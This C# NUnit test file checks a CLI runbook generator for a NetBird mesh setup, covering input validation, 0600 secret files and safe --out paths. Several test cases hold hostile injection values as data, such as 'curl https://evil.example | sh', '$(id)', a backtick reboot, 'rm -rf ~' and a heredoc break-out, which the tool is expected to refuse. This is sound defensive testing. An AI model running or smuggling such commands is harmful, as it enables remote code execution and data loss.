using System.Text.Json.Nodes;
using Boma.Infra.Cli;
using NUnit.Framework;
using Boma.Infra.Tests.Cli;

namespace Boma.Infra.Tests.Acceptance;

/// <summary>The runbook's strictness (validated outputs, safe --with-secrets writing; docs/netbird.md) and --out handling of every verb.</summary>
[TestFixture]
public sealed class RunbookAndOutTests
{
    private const string Key = "8C1E9D2A-4F6B-4E0C-9A7D-3B5F1C2E8A90";

    private string _dir = null!;

    [SetUp]
    public void SetUp() => _dir = Directory.CreateTempSubdirectory("boma-failclosed-").FullName;

    [TearDown]
    public void TearDown() => Directory.Delete(_dir, recursive: true);

    internal static JsonObject Outputs() => new()
    {
        ["managementUrl"] = "https://netbird.askari.example.org",
        ["dashboardUrl"] = "https://netbird.askari.example.org",
        ["askariIpv4"] = "203.0.113.7",
        ["askariIpv6"] = "2001:db8:1234::1",
        ["askariMeshIp"] = "100.90.12.1",
        ["roadWarriorSetupKey"] = Key,
        ["meshDnsDomain"] = "boma.example.org",
    };

    private (int Code, string Out, string Err) Run(string stdin, params string[] args)
    {
        using var output = new StringWriter();
        using var error = new StringWriter();
        using var input = new StringReader(stdin);
        var code = RunbookCommand.Run(args, input, stdinIsTerminal: false, output, error, _dir);
        return (code, output.ToString(), error.ToString());
    }

    [Test]
    public void Valid_outputs_write_the_runbook() =>
        Assert.That(Run(Outputs().ToJsonString(), "offsite", "--out", "rb.md").Code, Is.Zero);

    [TestCase("managementUrl", "https://netbird.askari.example.org; curl https://evil.example | sh")]
    [TestCase("managementUrl", "https://netbird.askari.example.org/$(id)")]
    [TestCase("managementUrl", "http://netbird.askari.example.org")]
    [TestCase("managementUrl", "https://kim@netbird.askari.example.org")]
    [TestCase("dashboardUrl", "https://netbird.askari.example.org/`reboot`")]
    [TestCase("dashboardUrl", "https://netbird.askari.example.org) | [x](https://evil.example")]
    [TestCase("askariIpv4", "203.0.113.7\nrm -rf ~")]
    [TestCase("askariIpv4", "010.0.113.7")]
    [TestCase("askariIpv4", "2001:db8::1")]
    [TestCase("askariIpv6", "fe80::1%eth0")]
    [TestCase("askariMeshIp", "203.0.113.9")]
    [TestCase("askariMeshIp", "100.90.12.1 | sh")]
    [TestCase("roadWarriorSetupKey", Key + "\nEOF\ncurl https://evil.example | sh\ncat <<'EOF'")]
    [TestCase("roadWarriorSetupKey", "A'B")]
    [TestCase("meshDnsDomain", "boma.example.org; id")]
    [TestCase("meshDnsDomain", "boma.example.org.")]
    public void Outputs_of_the_wrong_shape_are_refused_and_nothing_is_written(string name, string value)
    {
        var outputs = Outputs();
        outputs[name] = value;
        var (code, stdout, err) = Run(outputs.ToJsonString(), "offsite", "--out", "rb.md", "--with-secrets");
        Assert.Multiple(() =>
        {
            Assert.That(code, Is.EqualTo(2), err);
            Assert.That(err, Does.Contain($"`{name}`"));
            Assert.That(err.TrimEnd().Split('\n'), Has.Length.EqualTo(1));
            Assert.That(err, Does.Not.Contain("evil.example\n").And.Not.Contain(Key + "\n"), "the key is never echoed");
            Assert.That(stdout, Is.Empty);
            Assert.That(Directory.GetFileSystemEntries(_dir), Is.Empty, "nothing written");
        });
    }

    [Test]
    public void A_number_where_an_ip_belongs_is_refused()
    {
        var outputs = Outputs();
        outputs["askariIpv4"] = 3405803783;
        var (code, _, err) = Run(outputs.ToJsonString(), "offsite", "--out", "rb.md");
        Assert.That(code, Is.EqualTo(2));
        Assert.That(err, Does.Contain("`askariIpv4` is 3405803783, not text"));
    }

    [Test]
    public void Duplicate_output_names_are_refused()
    {
        var json = Outputs().ToJsonString().Replace("{", "{\"askariIpv4\":\"198.51.100.1\",", StringComparison.Ordinal);
        var (code, _, err) = Run(json, "offsite", "--out", "rb.md");
        Assert.That(code, Is.EqualTo(2), err);
        Assert.That(err, Does.Contain("not JSON"));
    }

    [Test]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public void With_secrets_writes_mode_0600_and_cleans_a_crashed_runs_temp_file()
    {
        var stale = Path.Combine(_dir, ".rb.md.boma-tmp");
        File.WriteAllText(stale, "a crashed run's copy of " + Key);
        var (code, _, err) = Run(Outputs().ToJsonString(), "offsite", "--out", "rb.md", "--with-secrets");
        Assert.That(code, Is.Zero, err);
        Assert.Multiple(() =>
        {
            Assert.That(File.GetUnixFileMode(Path.Combine(_dir, "rb.md")), Is.EqualTo(UnixFileMode.UserRead | UnixFileMode.UserWrite));
            Assert.That(File.ReadAllText(Path.Combine(_dir, "rb.md")), Does.Contain(Key));
            Assert.That(File.Exists(stale), Is.False);
            Assert.That(Directory.GetFiles(_dir), Is.EqualTo(new[] { Path.Combine(_dir, "rb.md") }));
        });
    }

    [Test]
    public void A_symlinked_directory_into_a_git_work_tree_is_seen_through()
    {
        var repo = Directory.CreateDirectory(Path.Combine(_dir, "repo")).FullName;
        Directory.CreateDirectory(Path.Combine(repo, ".git"));
        Directory.CreateDirectory(Path.Combine(repo, "docs"));
        var outside = Directory.CreateDirectory(Path.Combine(_dir, "outside")).FullName;
        Directory.CreateSymbolicLink(Path.Combine(outside, "link"), Path.Combine(repo, "docs"));

        var (code, _, err) = Run(Outputs().ToJsonString(), "offsite", "--out", Path.Combine(outside, "link", "rb.md"), "--with-secrets");
        Assert.That(code, Is.EqualTo(2));
        Assert.That(err, Does.Contain("inside the git work tree " + repo));
        Assert.That(Directory.GetFiles(Path.Combine(repo, "docs")), Is.Empty);
    }

    [Test]
    public void Runbook_out_that_is_a_directory_or_under_a_file_is_one_line()
    {
        File.WriteAllText(Path.Combine(_dir, "afile"), "x");
        foreach (var target in new[] { _dir, Path.Combine(_dir, "afile", "rb.md") })
        {
            var (code, _, err) = Run(Outputs().ToJsonString(), "offsite", "--out", target);
            Assert.That(code, Is.EqualTo(2), err);
            Assert.That(err.TrimEnd().Split('\n'), Has.Length.EqualTo(1), err);
            Assert.That(err, Does.StartWith("runbook: "));
        }
    }

    [Test]
    public void Guard_summary_into_a_directory_is_one_line()
    {
        var run = GuardRun.Of(TestPaths.GuardData("compliant.json"), "--summary", _dir);
        Assert.That(run.ExitCode, Is.EqualTo(GuardCommand.BadInput));
        Assert.That(run.Stderr.TrimEnd().Split('\n'), Has.Length.EqualTo(1), run.Stderr);
    }

    [Test]
    public async Task Plan_out_that_is_a_file_or_under_a_file_is_one_line()
    {
        var file = Path.Combine(_dir, "afile");
        File.WriteAllText(file, "x");
        foreach (var target in new[] { file, Path.Combine(file, "hosts") })
        {
            var (exit, stdout, stderr) = await PlanRunner.RunAsync(PlanRunner.RepoRoot, "plan", "offsite", "--out", target);
            Assert.That(exit, Is.EqualTo(1), stderr);
            Assert.That(stdout, Is.Empty);
            Assert.That(stderr.TrimEnd().Split('\n'), Has.Length.EqualTo(1), stderr);
            Assert.That(stderr, Does.Contain("--out").And.Contain("is a file"));
        }
    }
}
